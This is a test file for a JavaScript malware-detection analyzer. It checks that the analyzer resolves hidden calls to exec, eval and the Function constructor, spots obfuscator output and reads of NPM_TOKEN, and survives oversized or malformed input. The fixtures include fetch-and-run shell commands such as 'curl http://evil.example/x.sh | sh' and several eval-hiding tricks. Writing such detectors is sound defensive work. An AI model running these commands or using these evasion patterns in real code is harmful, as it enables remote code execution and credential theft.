import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import type { SourceFacts } from '../types.ts';
import {
  analyzeJavaScriptSource,
  analyzeJavaScriptSourceDetailed,
  initJavaScriptParser,
  LEXICAL_THRESHOLD_CHARS,
  normalizeModule,
} from './analyze.ts';
import { obfuscationSignals, obfuscatorVerdict } from './obfuscation.ts';

before(async () => {
  await initJavaScriptParser();
});

function facts(code: string, file = 'index.js'): SourceFacts {
  return analyzeJavaScriptSource(file, Buffer.from(code));
}

/** Resolved callees by line: 'line:callee'. */
function callees(code: string, file?: string): string[] {
  return facts(code, file).calls.map((call) => `${call.line}:${call.callee}`);
}

describe('require and import resolution', () => {
  test('require, node: prefixes and subpath modules', () => {
    const got = callees(
      [
        "const cp = require('node:child_process');",
        "cp.exec('id');",
        "const fsp = require('fs/promises');",
        "fsp.rename('a', 'b');",
        "require('fs').promises.rename('a', 'b');",
      ].join('\n'),
    );
    assert.ok(got.includes('2:child_process.exec'));
    assert.ok(got.includes('4:fs.promises.rename'));
    assert.ok(got.includes('5:fs.promises.rename'));
  });

  test('ES imports: default, namespace, named with alias', () => {
    const got = callees(
      [
        "import os from 'os';",
        "import * as fs from 'node:fs';",
        "import { exec as run, spawn } from 'child_process';",
        'os.hostname(); fs.writeFile("a", "b"); run("x"); spawn("y");',
      ].join('\n'),
    );
    for (const name of ['os.hostname', 'fs.writeFile', 'child_process.exec', 'child_process.spawn']) {
      assert.ok(got.includes(`4:${name}`), `${name} in ${got.join(', ')}`);
    }
  });

  test('destructuring with renames, and aliases of aliases', () => {
    const got = callees(
      [
        "const { exec: run, execSync } = require('child_process');",
        'const again = run;',
        "again('id'); execSync('id');",
      ].join('\n'),
    );
    assert.ok(got.includes('3:child_process.exec'));
    assert.ok(got.includes('3:child_process.execSync'));
  });

  test('module names folded from concatenation and base64', () => {
    const result = facts(
      [
        "const cp = require('child' + '_process');",
        "const h = require(Buffer.from('aHR0cHM=', 'base64').toString());",
        "cp.spawn('sh'); h.get('u');",
      ].join('\n'),
    );
    const got = result.calls.map((call) => `${call.line}:${call.callee}`);
    assert.ok(got.includes('3:child_process.spawn'));
    assert.ok(got.includes('3:https.get'));
    const dynamic = result.imports.filter((fact) => fact.dynamic).map((fact) => fact.module);
    assert.deepEqual(dynamic, ['child_process', 'https']);
  });

  test('module internals: constructor._load, mainModule.require, process.binding', () => {
    const got = callees(
      [
        "module.constructor._load('child_process').execSync('id');",
        "process.mainModule.require('net').connect(1);",
        "process.binding('spawn_sync').spawn({ file: 'sh' });",
        "require('module').createRequire(__filename)('dns').lookup('x');",
      ].join('\n'),
    );
    assert.ok(got.includes('1:child_process.execSync'));
    assert.ok(got.includes('2:net.connect'));
    assert.ok(got.includes('3:process.binding.spawn_sync.spawn'));
    assert.ok(got.includes('4:dns.lookup'));
  });

  test('globals: eval reached indirectly, new Function, fetch, Date.now, process.env', () => {
    const result = facts(
      [
        "globalThis['ev' + 'al'](code);",
        '(0, eval)(code);',
        "const f = new Function('a', code);",
        "fetch('https://example.com'); Date.now();",
        'JSON.stringify(process.env); const t = process.env.NPM_TOKEN;',
      ].join('\n'),
    );
    const got = result.calls.map((call) => `${call.line}:${call.callee}`);
    for (const name of [
      '1:builtins.eval',
      '2:builtins.eval',
      '3:builtins.Function',
      '4:builtins.fetch',
      '4:Date.now',
    ]) {
      assert.ok(got.includes(name), `${name} in ${got.join(', ')}`);
    }
    const stringify = result.calls.find((call) => call.callee === 'JSON.stringify');
    assert.deepEqual(stringify?.args[0], { kind: 'ref', name: 'process.env' });
    const reads = result.constructs.filter((c) => c.kind === 'member-read').map((c) => c.detail);
    assert.ok(reads.includes('process.env.NPM_TOKEN'));
  });

  test('a parameter shadows a require, except the CommonJS wrapper names', () => {
    const got = callees(
      [
        "const cp = require('child_process');",
        "function a(cp) { cp.exec('x'); }",
        "function b(require) { require('net').connect(1); }",
      ].join('\n'),
    );
    assert.ok(got.includes('2:*.exec'));
    assert.ok(got.includes('3:net.connect'));
  });

  test('options objects become keywords', () => {
    const call = facts(
      "require('child_process').spawn('x', [], { detached: true, shell: true });",
    ).calls.find((c) => c.callee === 'child_process.spawn');
    assert.deepEqual(
      call?.keywords.map((k) => k.name),
      ['detached', 'shell'],
    );
  });

  test('TypeScript: annotations and import = require', () => {
    const got = callees(
      [
        "import fs = require('fs');",
        "const os: typeof import('os') = require('os') as any;",
        'fs.unlinkSync(os.tmpdir());',
      ].join('\n'),
      'src/tool.ts',
    );
    assert.ok(got.includes('3:fs.unlinkSync'));
    assert.ok(got.includes('3:os.tmpdir'));
  });

  test('declaration files are skipped', () => {
    const result = facts("declare function exec(cmd: string): void; exec('x');", 'types/index.d.ts');
    assert.equal(result.calls.length, 0);
  });

  test('normalizeModule strips node: and maps builtin subpaths only', () => {
    assert.equal(normalizeModule('node:fs/promises'), 'fs.promises');
    assert.equal(normalizeModule('lodash/get'), 'lodash/get');
    assert.equal(normalizeModule('@scope/pkg'), '@scope/pkg');
  });
});

describe('strings and constructs', () => {
  test('escapes are decoded and concatenation is marked once per chain', () => {
    const result = facts("const u = '\\x68ttp' + 's://' + host;\nconst t = `a$" + '{b}`;');
    assert.ok(result.strings.some((s) => s.value === 'http'));
    const kinds = result.constructs.map((c) => `${c.line}:${c.kind}`);
    assert.deepEqual(
      kinds.filter((k) => k.endsWith('string-concat')),
      ['1:string-concat'],
    );
    assert.ok(kinds.includes('2:fstring'));
  });
});

const OBFUSCATED = [
  "function _0x3a1f(){var _0x52c1=['\\x6c\\x6f\\x67','\\x68\\x65\\x6c\\x6c\\x6f','\\x77\\x6f\\x72\\x6c\\x64'];_0x3a1f=function(){return _0x52c1;};return _0x3a1f();}",
  "(function(_0x4b2e,_0x1d9a){var _0x2f7c=_0x5e0b,_0x18aa=_0x4b2e();while(!![]){try{var _0x3c4d=parseInt(_0x2f7c(0x0))/0x1;if(_0x3c4d===_0x1d9a)break;else _0x18aa['push'](_0x18aa['shift']());}catch(_0x11ef){_0x18aa['push'](_0x18aa['shift']());}}}(_0x3a1f,0x1f2e3));",
  'function _0x5e0b(_0x4e1c,_0x2a9b){var _0x3a1e=_0x3a1f();return _0x5e0b=function(_0x5e0b1,_0x1a2b){var _0x6c7d=_0x3a1e[_0x5e0b1];return _0x6c7d;},_0x5e0b(_0x4e1c,_0x2a9b);}',
  "var _0x9f1e=_0x5e0b;console[_0x9f1e(0x0)](_0x9f1e(0x1)+'\\x20'+_0x9f1e(0x2));",
].join('\n');

/** terser / esbuild / webpack shapes: short names, readable strings, module tables. */
const MINIFIED = [
  '"use strict";var e=require("path"),t=require("fs");function n(n,r){const o=e.join(n,r);return t.existsSync(o)?t.readFileSync(o,"utf8"):null}module.exports={read:n};',
  'var f=(e,t)=>()=>(t||e((t={exports:{}}).exports,t),t.exports);var m=f((e,t)=>{t.exports=function(n){return"Hello, "+n}});',
  '(()=>{var e={123:(e,t,r)=>{"use strict";r.r(t),r.d(t,{greet:()=>o});const o=e=>`Hello $' +
    '{e}`}},t={};function r(o){var n=t[o];if(void 0!==n)return n.exports;var s=t[o]={exports:{}};return e[o](s,s.exports,r),s.exports}})();',
].join('\n');

describe('minified versus obfuscated', () => {
  test('obfuscator output is marked, with its reasons', () => {
    const marks = facts(OBFUSCATED).constructs.filter((c) => c.kind === 'obfuscator-output');
    assert.equal(marks.length, 1);
    assert.match(marks[0]?.detail ?? '', /_0x identifiers.*rotated string array/);
  });

  test('bundler and minifier output is not', () => {
    assert.equal(obfuscatorVerdict(obfuscationSignals(MINIFIED)), undefined);
    assert.equal(facts(MINIFIED).constructs.filter((c) => c.kind === 'obfuscator-output').length, 0);
  });

  test('a rotation counts only on one array, and without _0x names only in its checksum loop', () => {
    const table = `var t=[${Array.from({ length: 32 }, (_, i) => `'s${i}'`).join(',')}];`;
    const escapes = `var x='${'\\x41'.repeat(24)}';`;
    const between = obfuscationSignals(`${table}${escapes}while(q.length)out.push(q.shift());`);
    assert.equal(between.rotation, false);
    const template = obfuscationSignals(
      `${table}${escapes}var s="while (true) {\\n try { const e = {check};\\n if (e === v) break; else a['push'](a['shift']());";`,
    );
    assert.equal(template.rotation, true);
    assert.equal(template.rotationLoop, false);
    assert.equal(obfuscatorVerdict(template), undefined);
    const loop = obfuscationSignals(
      `${table}${escapes}while(!![]){try{const f=parseInt(j(0x1))/0x1;if(f===c)break;else e['push'](e['shift']());}catch(g){}}`,
    );
    assert.equal(loop.rotationLoop, true);
    assert.ok(obfuscatorVerdict(loop));
  });
});

describe('hostile and large input', () => {
  test('broken code keeps the evidence before and after the break', () => {
    const code = [
      "const cp = require('child_process');",
      "cp.exec('curl x | sh');",
      'function broken( { if (',
      "cp.execSync('id');",
    ].join('\n');
    const result = analyzeJavaScriptSourceDetailed('index.js', Buffer.from(code));
    assert.equal(result.facts.partial, true);
    const got = result.facts.calls.map((call) => `${call.line}:${call.callee}`);
    assert.ok(got.includes('2:child_process.exec'));
    assert.ok(got.includes('4:child_process.execSync'));
    assert.ok(result.problems.some((p) => p.kind === 'parse-error'));
  });

  test('a truncated file and odd bytes do not throw', () => {
    const result = facts("const a = require('https'); a.get('http://x\u0000\ufffd");
    assert.ok(result.calls.some((call) => call.callee === 'https.get'));
  });

  test('a 5 MB minified bundle is read whole by the token reader and keeps its facts', () => {
    // One line, as minifiers write it, of distinct small modules; the telling call sits at the end.
    const parts: string[] = [];
    let size = 0;
    for (let i = 0; size < 5 * 1024 * 1024; i++) {
      const chunk = `var m${i}=function(e,t){return e.join(t,"p${i}")+t.slice(${i % 7})};`;
      parts.push(chunk);
      size += chunk.length;
    }
    parts.unshift('var p=require("path");');
    parts.push('const{exec:x}=require("child_process");x("id");');
    const code = parts.join('');
    assert.ok(code.length > LEXICAL_THRESHOLD_CHARS);
    const rssBefore = process.memoryUsage().rss;
    const result = analyzeJavaScriptSourceDetailed('dist/bundle.min.js', Buffer.from(code));
    assert.ok(process.memoryUsage().rss - rssBefore < 400 * 1024 * 1024, 'memory stays bounded');
    assert.ok(result.facts.imports.some((fact) => fact.module === 'path'));
    assert.ok(!result.problems.some((p) => p.kind === 'timeout'));
    assert.ok(result.facts.calls.some((call) => call.callee === 'child_process.exec'));
    assert.ok(result.facts.constructs.some((c) => c.kind === 'long-line'));
  });
});

describe('callee obfuscation', () => {
  test('call, apply, bind, Reflect and property descriptors reach the function they hide', () => {
    const got = callees(
      [
        'eval.call(null, x);',
        'eval.apply(null, [x]);',
        'const f = eval.bind(null); f(x);',
        'Reflect.apply(eval, null, [x]);',
        "Reflect.get(globalThis, 'eval')(x);",
        "Object.getOwnPropertyDescriptor(globalThis, 'eval').value(x);",
        "globalThis['ev' + 'al'](x);",
        "Function.constructor('require', x);",
        "(() => {}).constructor('return 1');",
        "const cp = require('child_process'); cp.exec.call(cp, x); Reflect.apply(cp.exec, cp, [x]);",
        'client.call(x); api.request.call(api, x);',
      ].join('\n'),
    );
    for (const line of [1, 2, 4, 5, 6, 7]) assert.ok(got.includes(`${line}:builtins.eval`), `line ${line}`);
    assert.ok(got.includes('3:builtins.eval'));
    assert.ok(got.includes('8:builtins.Function'));
    assert.ok(got.includes('9:builtins.Function'));
    assert.equal(got.filter((entry) => entry === '10:child_process.exec').length, 2);
    // An unresolved object's own `call` method stays what it is.
    assert.ok(got.includes('11:*.call'));
  });

  test('the hidden call keeps the arguments the function receives', () => {
    const [call] = facts('eval.call(null, atob(payload));').calls.filter((c) => c.callee === 'builtins.eval');
    assert.equal(call?.args.length, 1);
    assert.deepEqual(call?.args[0], { kind: 'call', callee: 'builtins.atob', text: 'atob(payload)' });
  });
});

describe('deep nesting and work budgets', () => {
  const payload = 'require("child_process").exec("curl http://evil.example/x.sh | sh");\n';

  test('a parse that gives up on deep nesting hands the file to the token reader and says so', () => {
    const depth = 40_000;
    const code = `var a=${'['.repeat(depth)}${']'.repeat(depth)};\n${payload}`;
    const run = () => analyzeJavaScriptSourceDetailed('install.js', Buffer.from(code));
    const result = run();
    assert.equal(result.facts.partial, true);
    assert.match(result.problems[0]?.message ?? '', /parsing passed its budget of \d+ steps/);
    assert.ok(result.facts.calls.some((call) => call.callee === 'child_process.exec'));
    // Work, not time: the same input stops at the same step on a busy machine.
    assert.deepEqual(run(), result);
  });

  test('the token reader resolves require("m").member(…) as the module member', () => {
    const code = `var a=[${'[1],'.repeat(30_000)}];${payload}`;
    assert.ok(code.length > 96 * 1024);
    const result = analyzeJavaScriptSourceDetailed('install.js', Buffer.from(code));
    const call = result.facts.calls.find((c) => c.callee === 'child_process.exec');
    assert.deepEqual(call?.args, [{ kind: 'string', value: 'curl http://evil.example/x.sh | sh' }]);
  });
});
